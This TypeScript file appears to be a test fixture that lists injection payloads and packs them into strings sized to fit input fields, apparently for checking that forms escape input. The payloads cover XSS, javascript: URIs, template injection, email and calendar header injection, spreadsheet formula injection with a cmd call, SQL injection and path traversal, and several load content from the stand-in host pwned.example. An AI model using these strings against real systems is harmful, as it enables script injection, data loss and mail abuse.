const character = String.fromCodePoint

/** What would act if a place took it for its own language; whatever runs in a browser sets `window.pwned`. */
const scripts = [
  '<script>pwned=1</script>',
  '"><script>pwned=3</script>',
  '</script><script>pwned=4</script>',
  '</textarea><script>pwned=5</script>',
  '</title><script>pwned=6</script>',
  '--><script>pwned=8</script><!--',
  ']]><script>pwned=9</script>',
  '<script src=//pwned.example/x.js></script>',
]

const handlers = [
  '<img src=x onerror=pwned=12>',
  '" autofocus onfocus="pwned=13',
  "' onmouseover='pwned=14",
  '` onerror=`pwned=15',
  '<details open ontoggle=pwned=16>',
  '<body onload=pwned=18>',
]

const foreignMarkup = [
  '<svg onload=pwned=20>',
  '<svg><animate onbegin=pwned=21 dur=1s>',
  '<math><a xlink:href=javascript:pwned=22>x</a></math>',
  '<svg><use href="data:image/svg+xml,pwned#x"/></svg>',
  '<iframe srcdoc="<script>top.pwned=24</script>">',
  '<base href=//pwned.example/>',
  '<meta http-equiv=refresh content="0;//pwned.example">',
  '<link rel=stylesheet href=//pwned.example/x.css>',
  '<form action=//pwned.example><button>x</button>',
]

const addresses = [
  'javascript:pwned=31',
  ' JaVaScRiPt:pwned=32',
  'java\tscript:pwned=33',
  'data:text/html,<script>top.pwned=34</script>',
  'javascript://pwned.example/%0apwned=36',
  'https://pwned.example/"onclick="pwned=37',
  "https://pwned.example/?q='><b>x</b>&amp;y=1",
]

const markdown = [
  '[pwned](javascript:pwned=40)',
  '![pwned](https://pwned.example/x.png)',
  '[a]: javascript:pwned=42 "x"\n\n[a]',
  '# pwned\n<b onclick=pwned=44>x</b>',
]

const templates = [
  '{{constructor.constructor("pwned=46")()}}',
  ['$', '{pwned=47}'].join(''),
  '<%= pwned %> #{pwned} {% pwned %}',
  '*{background:url(//pwned.example/x)}',
  '&#x3c;script&#x3e;pwned=50&lt;/script&gt;&pwned;',
  '{"__proto__":{"pwned":51}}',
]

const headers = [
  'Ann\r\nBcc: eve@pwned.example',
  'Ann\nSubject: pwned\n\n<b>pwned</b>',
  '"pwned" <eve@pwned.example>, <bob@pwned.example>',
  '=?utf-8?Q?pwned=0D=0ABcc:_eve@pwned.example?=',
]

const calendars = [
  'pwned\r\nEND:VEVENT\r\nBEGIN:VEVENT',
  'pwned\\nATTENDEE:mailto:eve@pwned.example',
  'pwned;X=1,Y=2:mailto:"eve"@pwned.example\\;',
  "pwned^nORGANIZER^':mailto:eve@pwned.example",
]

const cells = [
  '=HYPERLINK("http://pwned.example","x")',
  '+cmd|"/C pwned"!A0',
  '-2+3+pwned',
  '@SUM(1+9)*pwned',
  '\t=pwned()',
  'pwned",=1+1,"\r\n=pwned',
]

const papers = [
  ') Tj ET /URI (pwned) (',
  '\\) >> /JS (app.alert(pwned)) /S /JavaScript',
  '%%EOF pwned endobj',
]

const queries = ["pwned'); DROP TABLE users;--", 'pwned%_%\\%']

const paths = ['../../../pwned', '..\\..\\pwned.exe', '%2e%2e%2fpwned']

const letters = [
  `pwned${character(0x202e)}gnp.exe`,
  `pw${character(0x200b)}n${character(0x2060, 0xfeff)}ed`,
  'рwnеd раураl',
  `pwned${character(0x0301).repeat(30)}`,
  `pwned 👩🏽‍🚀👨‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿`,
  'pwned محمد שלום नमस्ते 漢字',
  `pwned${character(0)}x`,
  `pwned${character(0xd800)}x`,
  `pwned${character(7, 8, 0x1b)}[31mred`,
  `pwned${character(0x85, 0x2028, 0x2029)}line`,
  `pwned${'W'.repeat(45)}`,
]

export const payloads: readonly string[] = [
  ...scripts,
  ...handlers,
  ...foreignMarkup,
  ...addresses,
  ...markdown,
  ...templates,
  ...headers,
  ...calendars,
  ...cells,
  ...papers,
  ...queries,
  ...paths,
  ...letters,
]

/** Refused by fields of one line. */
const isUnseen = (text: string) => /[\p{Control}\p{Surrogate}\u2028\u2029\u202a-\u202e]/u.test(text)
/** Refused by every field. */
const isUnstorable = (text: string) => /[\0\p{Surrogate}]/u.test(text)
/** Acts only at the beginning: a formula in every text, a scheme where an address is asked for. */
const leads = (text: string) => /^[=+\-@\t]/.test(text)
const isAddress = (text: string) => /^\s*\w[\w\t]*:/.test(text)

/** All payloads in as few texts as the length of a field allows, each beside its equals. */
export function textsWithin(max: number, { asAddress = false } = {}): string[] {
  const [seen, unseen] = [payloads.filter((each) => !isUnseen(each)), payloads.filter(isUnseen)]
  const texts: string[] = []
  for (const payload of [...seen, ...unseen]) {
    const last = texts.at(-1) ?? ''
    const isFirst = leads(payload) || (asAddress && isAddress(payload)) || isUnstorable(payload + last)
    const fits =
      texts.length > 0 && last.length + payload.length < max && isUnseen(payload) === isUnseen(last)
    if (fits && !isFirst) texts[texts.length - 1] = `${last} ${payload}`
    else texts.push(payload)
  }
  return texts
}

/** As many as fit in one text; those that a field might refuse are left out. */
export function manyWithin(max: number): string {
  let text = ''
  for (const payload of payloads.filter((each) => !isUnseen(each))) {
    const longer = text ? `${text} ${payload}` : payload
    if (longer.length <= max) text = longer
  }
  return text
}
